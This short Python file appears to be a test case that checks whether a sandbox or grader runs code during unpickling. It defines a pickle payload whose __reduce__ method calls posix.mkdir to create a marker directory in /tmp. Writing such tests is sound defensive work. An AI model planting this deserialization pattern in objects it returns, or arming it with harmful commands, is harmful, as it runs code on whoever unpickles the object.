# Tries: Return an object that runs code in whoever unpickles it.
# Family: pickle
# Mode: tests
# Earns: OUTPUT 0

class Payload:
    def __reduce__(self):
        import posix

        return posix.mkdir, ("/tmp/attack-was-here-pickle",)


def f(x):
    return Payload()
